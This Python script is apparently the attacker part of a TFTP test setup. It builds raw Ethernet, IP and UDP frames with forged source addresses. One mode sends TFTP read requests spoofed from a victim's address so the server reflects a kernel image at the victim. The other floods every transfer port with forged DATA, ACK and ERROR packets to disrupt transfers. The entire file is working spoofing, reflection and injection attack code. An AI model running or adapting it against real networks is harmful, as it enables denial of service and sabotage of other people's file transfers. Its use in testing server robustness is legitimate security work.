"""Datagrams from other addresses than the attacker's own, put on the cable by hand: spoof.py SERVER COUNT VICTIM-ADDRESS MODE.

reflect   read requests from the victim's address: what they bring goes to the victim
transfer  DATA, ACK and ERROR to every port that a transfer can have, from the attacker's address and from other ports of the victim's

After COUNT of them it is under way and goes on more slowly; at SIGTERM it prints what it did as a line of JSON.
"""
import json
import random
import signal
import socket
import struct
import sys
import time

server, total, victim, mode = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
DEVICE = "bad0"
OWN = "10.77.0.3"
SERVER_MAC = bytes.fromhex("020000000001")
TRANSFER_PORTS = range(32768, 61000)
FILE = b"91cdf03d/kernel8.img"

cable = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
cable.bind((DEVICE, 0))
own_mac = cable.getsockname()[4]
counts = {}
random.seed(1)


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def send(name, source, source_port, port, payload):
    """RFC 768: a checksum of zero means that there is none."""
    udp = struct.pack("!HHHH", source_port, port, 8 + len(payload), 0) + payload
    head = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0x4000, 64, 17, 0, socket.inet_aton(source), socket.inet_aton(server)
    )
    head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    cable.send(SERVER_MAC + own_mac + b"\x08\x00" + head + udp)
    counts[name] = counts.get(name, 0) + 1


def requests():
    while True:
        for options in (b"", b"blksize\x001468\0tsize\x000\0", b"blksize\x001468\0windowsize\x0064\0"):
            send("requests", victim, 1024 + random.randrange(60000), 69, b"\0\x01" + FILE + b"\0octet\0" + options)
            yield


def intruders():
    """The victim's own ports are not met: whoever has address and port is the victim."""
    packets = (
        struct.pack("!HH", 4, 65535),
        struct.pack("!HH", 4, 1),
        struct.pack("!HH", 5, 0) + b"gone\0",
        struct.pack("!HH", 3, 1) + bytes(512),
    )
    while True:
        for port in TRANSFER_PORTS:
            packet = packets[random.randrange(len(packets))]
            if random.randrange(2):
                send("from here", OWN, 1024 + random.randrange(60000), port, packet)
            else:
                send("from a wrong port", victim, 1 + random.randrange(1000), port, packet)
            yield


def leave(*_):
    print(json.dumps(counts), flush=True)
    sys.exit(0)


signal.signal(signal.SIGTERM, leave)
# The kernel of the attacker must not answer what comes back for its own address.
attack = {"reflect": requests, "transfer": intruders}[mode]()
for sent, _ in enumerate(attack, 1):
    if sent == total:
        print("under way", flush=True)
    if sent % 20 == 0:
        time.sleep(0.001 if sent < total else 0.02)
